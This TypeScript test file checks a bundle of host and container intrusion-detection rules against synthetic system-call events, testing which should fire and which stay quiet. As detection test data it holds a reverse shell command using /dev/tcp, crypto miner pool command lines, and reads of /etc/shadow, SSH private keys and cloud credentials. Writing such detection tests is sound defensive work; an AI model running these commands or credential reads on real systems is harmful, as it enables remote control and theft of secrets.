import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { FieldValue } from '../../collector/detection/detection.ts';
import { bundledRulesPath, compileRuleset, formatProblem, loadRules, readRuleFiles } from '../../rules/index.ts';
import { resolver } from './helper.ts';
import type { TestEvent } from './interpret.ts';

const { files, problems: unreadable } = await readRuleFiles([
  `${bundledRulesPath()}/shikra_rules.yaml`,
  `${bundledRulesPath()}/yielding.yaml`,
]);
const { rules, problems } = loadRules(files);

/** What the probe provides. */
const TYPES =
  'open openat openat2 creat open_by_handle_at execve execveat clone fork vfork clone3 procexit connect accept accept4 listen bind chmod fchmod fchmodat fchmodat2 init_module finit_module delete_module ptrace setns unshare truncate ftruncate unlink unlinkat rmdir rename renameat renameat2 link linkat symlink symlinkat mkdir mkdirat dup dup2 dup3 socket setuid memfd_create'.split(
    ' ',
  );
const ruleset = compileRuleset(rules, resolver, TYPES);

/** An ordinary process on the host; events differ from it in what they say. */
const HOST: TestEvent = {
  'evt.res': 'SUCCESS',
  'evt.rawres': 3,
  'container.id': 'host',
  'proc.name': 'tool',
  'proc.exepath': '/opt/tool',
  'proc.pexepath': '/usr/bin/bash',
  'proc.aexepath': ['/usr/bin/bash', '/usr/lib/systemd/systemd'],
  'proc.aname': ['bash', 'systemd'],
  'proc.pid': 100,
  'proc.vpid': 100,
  'shikra.proc.is_host_program': true,
  'proc.tty': 0,
  'proc.cmdline': 'tool',
  'proc.args': '',
  'proc.is_exe_upper_layer': false,
  'proc.is_exe_from_memfd': false,
  'proc.stdin.type': 'file',
  'proc.stdout.type': 'file',
};
const CONTAINER: TestEvent = {
  ...HOST,
  'container.id': '0123456789ab',
  'proc.vpid': 7,
  'shikra.proc.is_host_program': false,
};
const READ = { 'evt.type': 'openat', 'fd.typechar': 'f', 'evt.is_open_read': true, 'evt.is_open_write': false };
const WRITE = { 'evt.type': 'openat', 'fd.typechar': 'f', 'evt.is_open_read': false, 'evt.is_open_write': true };
const EXEC = { 'evt.type': 'execve', 'evt.rawres': 0 };
const SHELL = { 'proc.name': 'bash', 'proc.exepath': '/usr/bin/bash' };
const CHMOD = { 'evt.type': 'fchmodat', 'evt.rawres': 0 };
const DPKG = { 'proc.name': 'dpkg', 'proc.exepath': '/usr/bin/dpkg' };
const CONNECT = {
  'evt.type': 'connect',
  'evt.res': 'EINPROGRESS',
  'fd.typechar': '4',
  'fd.rip': '93.184.216.34',
  'fd.rnet': '93.184.216.34',
};

/** The first rule that matches. */
function detect(base: TestEvent, ...changes: Record<string, FieldValue>[]): string | undefined {
  const event: TestEvent = Object.assign({}, base, ...changes);
  const index = ruleset.evaluator(String(event['evt.type']))?.(event, 0) ?? -1;
  return ruleset.rules[index]?.name;
}

const FIRES: [string, string, TestEvent, ...Record<string, FieldValue>[]][] = [
  ['a shell with a terminal', 'Interactive shell in a container', CONTAINER, EXEC, SHELL, { 'proc.tty': 34816 }],
  ['a shell on a socket', 'Reverse shell', HOST, EXEC, SHELL, { 'proc.stdin.type': 'ipv4' }],
  [
    'a shell on an IPv6 socket, with a terminal',
    'Reverse shell',
    CONTAINER,
    EXEC,
    SHELL,
    { 'proc.stdout.type': 'ipv6', 'proc.tty': 1 },
  ],
  [
    'a shell that takes a socket',
    'Reverse shell',
    HOST,
    SHELL,
    { 'evt.type': 'dup2', 'evt.rawres': 0, 'fd.typechar': '4' },
  ],
  [
    'a shell that opens a socket by name',
    'Reverse shell',
    HOST,
    EXEC,
    SHELL,
    { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1' },
  ],
  [
    'cat of the password hashes',
    'Password database read by an untrusted program',
    HOST,
    READ,
    { 'fd.name': '/etc/shadow' },
  ],
  [
    'a fake sudo added to a container',
    'Password database read by an untrusted program',
    CONTAINER,
    READ,
    { 'fd.name': '/etc/shadow', 'proc.exepath': '/usr/bin/sudo', 'proc.is_exe_upper_layer': true },
  ],
  [
    'a renamed process',
    'Password database read by an untrusted program',
    HOST,
    READ,
    { 'fd.name': '/etc/sudoers.d/x', 'proc.name': 'sudo' },
  ],
  [
    'an apt hook',
    'Password database read by an untrusted program',
    HOST,
    READ,
    { 'fd.name': '/etc/shadow', 'proc.aexepath': ['/usr/bin/apt-get'] },
  ],
  [
    'a private key',
    'Private key or cloud credential read',
    HOST,
    READ,
    { 'fd.name': '/root/.ssh/id_ed25519', 'fd.directory': '/root/.ssh', 'fd.filename': 'id_ed25519' },
  ],
  [
    'a cloud credential',
    'Private key or cloud credential read',
    CONTAINER,
    READ,
    { 'fd.name': '/home/u/.aws/credentials' },
  ],
  ['a miner by name', 'Crypto miner started by name', HOST, EXEC, { 'proc.name': 'xmrig' }],
  [
    'a miner by pool',
    'Crypto miner started for a pool',
    HOST,
    EXEC,
    { 'proc.cmdline': 'x -o stratum+tcp://pool:3333' },
  ],
  [
    'a miner by pool name',
    'Crypto miner started for a pool',
    HOST,
    EXEC,
    { 'proc.cmdline': 'x -o eu.supportxmr.com:443' },
  ],
  ['a new program in the path', 'Write below a binary folder', HOST, WRITE, { 'fd.name': '/usr/bin/ls' }],
  [
    'a program moved into the path',
    'Write below a binary folder',
    HOST,
    { 'evt.type': 'renameat2', 'fs.path.target': '/usr/sbin/x' },
  ],
  [
    'a link in the path',
    'Write below a binary folder',
    HOST,
    { 'evt.type': 'symlinkat', 'evt.arg[linkpath]': '/usr/local/bin/x' },
  ],
  ['a new cron job', 'Login or start-up configuration changed', HOST, WRITE, { 'fd.name': '/etc/cron.d/x' }],
  [
    'a preloaded library',
    'Login or start-up configuration changed',
    CONTAINER,
    { 'evt.type': 'rename', 'fs.path.target': '/etc/ld.so.preload' },
  ],
  ['other configuration', 'Write below etc', HOST, WRITE, { 'fd.name': '/etc/hosts' }],
  ['a setuid program', 'Setuid bit set', HOST, CHMOD, { 'evt.arg[mode]': 'S_ISUID|S_IXUSR' }],
  ['a setgid folder', 'Setgid bit set', HOST, CHMOD, { 'evt.arg[mode]': 'S_ISGID|S_IXUSR' }],
  ['a program in shared memory', 'Execution from memory', HOST, EXEC, { 'proc.exepath': '/dev/shm/x' }],
  [
    'a program in a memory file',
    'Execution from memory',
    CONTAINER,
    EXEC,
    {
      'proc.exepath': 'memfd:runc_cloned:/proc/self/exe',
      'proc.is_exe_from_memfd': true,
      'proc.pexepath': '/usr/bin/runc',
    },
  ],
  ['a package manager in a container', 'Package manager in a container', CONTAINER, EXEC, { 'proc.name': 'apk' }],
  [
    'a module out of a container',
    'Kernel module loaded by an unusual program',
    CONTAINER,
    { 'evt.type': 'finit_module', 'proc.exepath': '/usr/bin/kmod' },
  ],
  ['a module by a tool of its own', 'Kernel module loaded by an unusual program', HOST, { 'evt.type': 'init_module' }],
  ['a module', 'Kernel module loaded', HOST, { 'evt.type': 'finit_module', 'proc.exepath': '/usr/bin/kmod' }],
  [
    'an injection',
    'Process taken over by ptrace',
    HOST,
    { 'evt.type': 'ptrace', 'evt.rawres': 0, 'evt.arg[request]': 'PTRACE_ATTACH' },
  ],
  [
    'gdb in a container',
    'Process taken over by ptrace',
    CONTAINER,
    { 'evt.type': 'ptrace', 'evt.rawres': 0, 'evt.arg[request]': 'PTRACE_SEIZE', 'proc.exepath': '/usr/bin/gdb' },
  ],
  [
    'gdb',
    'Debugger attached to a process',
    HOST,
    { 'evt.type': 'ptrace', 'evt.rawres': 0, 'evt.arg[request]': 'PTRACE_SEIZE', 'proc.exepath': '/usr/bin/gdb' },
  ],
  ['setns in a container', 'Namespace left or entered', CONTAINER, { 'evt.type': 'setns', 'evt.rawres': 0 }],
  [
    'nsenter on the host',
    'Namespace left or entered',
    HOST,
    EXEC,
    { 'proc.exepath': '/usr/bin/nsenter', 'proc.args': '--target 1 --mount sh' },
  ],
  [
    'a log removed',
    'System log emptied or removed',
    HOST,
    { 'evt.type': 'unlinkat', 'fs.path.name': '/var/log/auth.log' },
  ],
  [
    'a log emptied',
    'System log emptied or removed',
    HOST,
    WRITE,
    { 'fd.name': '/var/log/wtmp', 'evt.arg[flags]': 'O_TRUNC|O_WRONLY' },
  ],
  [
    'a log of an application',
    'Log emptied or removed',
    HOST,
    { 'evt.type': 'ftruncate', 'evt.rawres': 0, 'fd.name': '/var/log/app/a.log' },
  ],
  ['a strange port', 'Container connects to an unexpected port', CONTAINER, CONNECT, { 'fd.rport': 4444 }],
];

const QUIET: [string, TestEvent, ...Record<string, FieldValue>[]][] = [
  ['a shell script in a container', CONTAINER, EXEC, SHELL],
  ['a shell on a terminal of the host', HOST, EXEC, SHELL, { 'proc.tty': 34816 }],
  ['sudo reading its rules', HOST, READ, { 'fd.name': '/etc/sudoers', 'proc.exepath': '/usr/bin/sudo' }],
  ['sshd reading hashes and keys', HOST, READ, { 'fd.name': '/etc/shadow', 'proc.exepath': '/usr/sbin/sshd' }],
  [
    'sshd reading its host key',
    HOST,
    READ,
    { 'fd.name': '/etc/ssh/ssh_host_rsa_key', 'proc.exepath': '/usr/sbin/sshd' },
  ],
  ['cron reading pam', HOST, READ, { 'fd.name': '/etc/pam.d/cron', 'proc.exepath': '/usr/sbin/cron' }],
  ['an open that failed', HOST, READ, { 'fd.name': '/etc/shadow', 'evt.rawres': -13 }],
  [
    'a public key',
    HOST,
    READ,
    { 'fd.name': '/root/.ssh/id_rsa.pub', 'fd.directory': '/root/.ssh', 'fd.filename': 'id_rsa.pub' },
  ],
  ['dpkg unpacking', HOST, WRITE, DPKG, { 'fd.name': '/usr/bin/ls.dpkg-new' }],
  ['dpkg renaming', HOST, { 'evt.type': 'rename', 'fs.path.target': '/usr/bin/ls' }, DPKG],
  [
    'a maintainer script',
    HOST,
    WRITE,
    { 'fd.name': '/etc/cron.d/x', 'proc.exepath': '/usr/bin/cp', 'proc.aexepath': ['/usr/bin/dash', '/usr/bin/dpkg'] },
  ],
  [
    'dnf',
    HOST,
    WRITE,
    { 'fd.name': '/etc/x', 'proc.exepath': '/usr/bin/python3.12', 'proc.args': '/usr/bin/dnf install x' },
  ],
  ['dpkg setting setuid', HOST, CHMOD, DPKG, { 'evt.arg[mode]': 'S_ISUID' }],
  ['the compiler', HOST, WRITE, { 'fd.name': '/home/u/a.o', 'proc.exepath': '/usr/bin/x86_64-linux-gnu-gcc-14' }],
  ['useradd', HOST, { 'evt.type': 'rename', 'fs.path.target': '/etc/passwd', 'proc.exepath': '/usr/sbin/useradd' }],
  ['systemd', HOST, WRITE, { 'fd.name': '/etc/machine-id', 'proc.exepath': '/usr/lib/systemd/systemd' }],
  ['grep for a pool', HOST, EXEC, { 'proc.cmdline': 'grep stratum+tcp:// x', 'proc.exepath': '/usr/bin/grep' }],
  [
    'runc starting a container',
    HOST,
    EXEC,
    {
      'proc.exepath': 'memfd:runc_cloned:/proc/self/exe',
      'proc.is_exe_from_memfd': true,
      'proc.pexepath': '/usr/bin/containerd-shim-runc-v2',
    },
  ],
  [
    'runc joining a container',
    { ...CONTAINER, 'shikra.proc.is_host_program': true },
    { 'evt.type': 'setns', 'evt.rawres': 0, 'proc.exepath': '/usr/bin/runc' },
  ],
  ['unshare of file tables', CONTAINER, { 'evt.type': 'unshare', 'evt.rawres': 0, 'evt.arg[flags]': 'CLONE_FS' }],
  [
    'logrotate',
    HOST,
    { 'evt.type': 'unlink', 'fs.path.name': '/var/log/syslog.5.gz', 'proc.exepath': '/usr/sbin/logrotate' },
  ],
  [
    'gzip under logrotate',
    HOST,
    {
      'evt.type': 'unlink',
      'fs.path.name': '/var/log/syslog.1',
      'proc.exepath': '/usr/bin/gzip',
      'proc.pexepath': '/usr/sbin/logrotate',
    },
  ],
  ['appending to a log', HOST, WRITE, { 'fd.name': '/var/log/syslog', 'evt.arg[flags]': 'O_APPEND|O_WRONLY' }],
  ['https out of a container', CONTAINER, CONNECT, { 'fd.rport': 443 }],
  ['a database inside', CONTAINER, CONNECT, { 'fd.rport': 5432, 'fd.rnet': '10.2.3.4' }],
  ['a strange port of the host', HOST, CONNECT, { 'fd.rport': 4444 }],
  ['udev loading a module', HOST, { 'evt.type': 'finit_module', 'proc.exepath': '/usr/lib/systemd/systemd-udevd' }],
  ['a package manager on the host', HOST, EXEC, { 'proc.name': 'apt' }],
];

describe('the bundled rules', () => {
  it('load without a problem and can all be evaluated', () => {
    assert.deepEqual([...unreadable, ...problems, ...ruleset.warnings].map(formatProblem), []);
    assert.equal(ruleset.matchesAnyType, false);
    assert.ok(ruleset.rules.length >= 15);
  });

  it('say what to do, and carry a maturity, a place and a technique', () => {
    for (const { name, description, tags } of ruleset.rules) {
      assert.ok(description.length > 80, name);
      assert.match(tags[0] ?? '', /^maturity_(stable|incubating|sandbox)$/, name);
      assert.ok(tags.includes('host') || tags.includes('container'), name);
      assert.ok(tags.some((tag) => tag.startsWith('mitre_')) && tags.some((tag) => /^T\d{4}/.test(tag)), name);
    }
  });

  it('have each an event here that fires it', () => {
    assert.deepEqual(new Set(FIRES.map(([, rule]) => rule)), new Set(ruleset.rules.map(({ name }) => name)));
  });

  for (const [title, rule, base, ...changes] of FIRES) {
    it(`detect ${title}`, () => assert.equal(detect(base, ...changes), rule));
  }

  for (const [title, base, ...changes] of QUIET) {
    it(`are quiet about ${title}`, () => assert.equal(detect(base, ...changes), undefined));
  }
});
